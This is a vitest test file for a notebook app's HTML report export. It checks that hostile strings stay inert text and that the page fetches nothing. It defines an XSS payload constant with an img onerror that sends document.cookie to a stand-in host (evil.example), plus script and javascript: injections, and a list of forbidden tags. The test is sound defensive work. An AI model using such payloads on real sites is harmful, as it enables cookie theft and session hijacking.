/** @file The report as a file: hostile text stays text, nothing is fetched, and every cell's outputs are in it. */

import { readFileSync } from "node:fs";
import { parse, type DefaultTreeAdapterTypes as Tree } from "parse5";
import { describe, expect, it } from "vitest";
import type { ExampleFile } from "../../notebook/file.ts";
import type { FactId } from "../../records/ids.ts";
import { newCell } from "../../notebook/kinds.ts";
import type { Cell, Notebook, Stamp, StoreCell } from "../../records/notebook.ts";
import { type ReportData, reportFigures } from "./cells.tsx";
import { reportHtml } from "./exportReport.tsx";

const { notebook, facts, said } = JSON.parse(
  readFileSync("public/samples/example.json", "utf8"),
) as ExampleFile;

const dataOf = (change: Partial<ReportData> = {}): ReportData => ({
  notebook,
  info: null,
  facts,
  said: new Map(facts.map(({ id }) => [id, said[id]!])),
  curves: [],
  vectors: null,
  runs: new Map(),
  evaluations: new Map(),
  made: "2026-11-21T18:00:00.000Z",
  ...change,
});

const drawn = (data: ReportData, svg: string | null = null) =>
  reportFigures(data).map((figure) => ({ ...figure, svg }));

interface Element {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** Every element, and the words of the page, as a browser reads them. */
function read(html: string): { readonly elements: readonly Element[]; readonly text: string } {
  const elements: Element[] = [];
  const words: string[] = [];
  const walk = (node: Tree.Node): void => {
    if (node.nodeName === "#text") words.push((node as Tree.TextNode).value);
    if ("tagName" in node)
      elements.push({
        name: node.tagName,
        attributes: Object.fromEntries(node.attrs.map(({ name, value }) => [name, value])),
      });
    if ("tagName" in node && node.tagName === "style") return;
    if ("childNodes" in node) for (const child of node.childNodes) walk(child);
  };
  walk(parse(html, { onParseError: (error) => expect.fail(`${error.code} at ${error.startLine}`) }));
  return { elements, text: words.join("") };
}

const ATTACK = `<img src=x onerror="fetch('https://evil.example/'+document.cookie)"></style></title></textarea><script>alert(1)</script>&lt;b&gt; "'\`--><!-- ]]> \u202e javascript:alert(1)`;

/** Every string of a record replaced by the attack, but for names that the app itself gives meaning to. */
function hostile<T>(value: T, name = ""): T {
  const meant = [
    "kind",
    "format",
    "id",
    "documentId",
    "at",
    "created",
    "updated",
    "memorizedAt",
    "read",
    "preset",
    "column",
    "bound",
    "outcome",
    "study",
  ];
  if (typeof value === "string") return (meant.includes(name) ? value : ATTACK) as T;
  if (Array.isArray(value)) return value.map((item) => hostile(item as unknown, name)) as T;
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, hostile(item as unknown, key)]),
  ) as T;
}

const questionRun = (stamp: Stamp) => ({
  questions: [
    {
      ask: "Where is Mary?",
      answers: ["hallway"],
      said: ["hallway"],
      cited: ["Mary (2)"],
      judged: {
        ...{ stored: true, routed: true, recalled: true, shown: true, marked: false, notInMemory: false },
        ...{ short: "right" as const, failed: null },
      },
      milliseconds: 400,
    },
  ],
  settings: null,
  facts: 43,
  stamp,
});

/** The example with one cell of each other kind, a certificate and a change. */
function full(): Notebook {
  const stamp = notebook.cells.find((cell) => cell.kind === "ask")!.output!.stamp;
  const plan = notebook.cells.find((cell) => cell.kind === "memorize")!.output!.layerPlan!;
  const certificate = {
    keys: ["Mary (1)"],
    before: [{ key: "Mary (1)", text: "before" }],
    after: [{ key: "Mary (1)", text: "after", gateOpen: false }],
    compared: 3,
    retained: 3,
    changed: 0,
  };
  const [row] = facts;
  const output: StoreCell["output"] = {
    certificates: [{ certificate, stamp }],
    reencodings: [
      {
        id: row!.id,
        key: "k",
        before: { ...row!, value: "one" },
        after: { ...row!, value: "another" },
        stamp,
      },
    ],
    stamp,
  };
  const cells = notebook.cells.map((cell): Cell => (cell.kind === "store" ? { ...cell, output } : cell));
  const probe = { ...newCell("probe", "p"), output: { ...plan, stamp } } as Cell;
  const questions = { ...newCell("questions", "q"), output: { runs: [questionRun(stamp)], stamp } } as Cell;
  return { ...notebook, cells: [...cells, questions, probe, newCell("experiment", "e")] };
}

describe("the report", () => {
  const forbidden = [
    "script",
    "iframe",
    "object",
    "embed",
    "link",
    "img",
    "base",
    "form",
    "a",
    "button",
    "input",
  ];

  it("keeps every string that a notebook can hold as text", () => {
    const data = dataOf({ notebook: hostile(full()), facts: hostile(facts) });
    const { elements, text } = read(reportHtml(data, drawn(data)));
    expect(elements.filter(({ name }) => forbidden.includes(name))).toEqual([]);
    for (const { attributes } of elements)
      for (const [name, value] of Object.entries(attributes)) {
        expect(name).not.toMatch(/^on|^(src|href)$/);
        // Colours and lengths of our own.
        if (name === "style") expect(value).toMatch(/^[-\w\s.:;%#(),]*$/);
        // A label is read aloud and never followed.
        if (name !== "aria-label") expect(value).not.toMatch(/https?:|javascript:/);
      }
    expect(text.split(ATTACK).length).toBeGreaterThan(100);
  });

  it("names no address, runs nothing, and says so to the browser", () => {
    const data = dataOf({ notebook: full() });
    const html = reportHtml(data, drawn(data, `<svg width="10" height="10"><text>θ</text></svg>`));
    const { elements } = read(html);
    expect(html).not.toMatch(/https?:\/\/|url\(|@import|src=|href=/);
    const policy = elements.find(({ attributes }) => attributes["http-equiv"]);
    expect(policy!.attributes["content"]).toMatch(/^default-src 'none'/);
    expect(elements.filter(({ attributes }) => attributes["class"] === "drawing")).toHaveLength(
      reportFigures(data).length,
    );
  });

  it("has every fact, answer and stamp, and the data of every figure", () => {
    const data = dataOf({ notebook: full() });
    const { text, elements } = read(reportHtml(data, drawn(data)));
    for (const { id } of facts) expect(text).toContain(said[id]!);
    expect(text).toContain("1 of 1, 100 % right (95 % interval 21 to 100 %)");
    for (const cell of notebook.cells)
      if (cell.kind === "ask")
        for (const { answer } of cell.output!.history) {
          expect(text).toContain(answer.question);
          expect(text).toContain(answer.text);
        }
    expect(text).toContain("Encoded again: k");
    expect(text).toContain("Deleted: Mary (1)");
    const titles = reportFigures(data).map(({ figure }) => figure.title);
    expect(titles).toHaveLength(new Set(titles).size + 1); // the probe's figure stands at two cells
    for (const title of titles) expect(text).toContain(title);
    expect(elements.filter(({ name }) => name === "figure")).toHaveLength(titles.length);
  });

  it("shows how a text was read when the text is gone", () => {
    const counts = {
      ...{ id: facts[0]!.documentId, title: "the lamp", characters: 4000 },
      parts: [{ sentences: 9, candidates: 4, byModel: 3, byRule: 1 }],
      filter: [{ verdict: "kept" as const, why: "entity", sentences: 4 }],
      anchors: [{ outcome: "model" as const, why: null, anchors: 3 }],
    };
    const cells = notebook.cells.map((cell): Cell =>
      cell.kind === "memorize" ? { ...cell, output: { ...cell.output!, extraction: [counts] } } : cell,
    );
    const data = dataOf({ notebook: { ...notebook, cells } });
    const ids = reportFigures(data).map(({ figure }) => figure.id);
    expect(ids).toEqual(expect.arrayContaining(["extraction-strip", "extraction-reasons"]));
    expect(read(reportHtml(data, drawn(data))).text).toContain("4 of 9 sentences kept as candidates");
  });

  it("stays a page one can open with 50,000 facts, and says what it left out", () => {
    const many = Array.from({ length: 50_000 }, (_, i) => ({
      ...facts[i % facts.length]!,
      id: `d:${i}` as FactId,
    }));
    const keys = many.slice(0, 5000).map(({ anchor, index }) => `${anchor} (${index})`);
    const stamp = notebook.cells.find((cell) => cell.kind === "ask")!.output!.stamp;
    const said = keys.map((key) => ({ key, text: "before", gateOpen: true }));
    const certificate = { keys, before: said, after: said, compared: 45_000, retained: 45_000, changed: 0 };
    const cells = notebook.cells.map((cell): Cell =>
      cell.kind === "store" ? { ...cell, output: { certificates: [{ certificate, stamp }], stamp } } : cell,
    );
    const data = dataOf({ facts: many, notebook: { ...notebook, cells } });
    const html = reportHtml(data, drawn(data));
    expect(html.length).toBeLessThan(3_000_000);
    expect(html).toContain("The first 2,000 of 50,000 facts");
    expect(html).toContain("4,940 more facts");
  });

  it("stands for an empty notebook too", () => {
    const data = dataOf({ notebook: { ...notebook, title: "", cells: [] }, facts: [] });
    expect(reportFigures(data)).toEqual([]);
    expect(read(reportHtml(data, [])).text).toContain("Untitled notebook");
  });
});
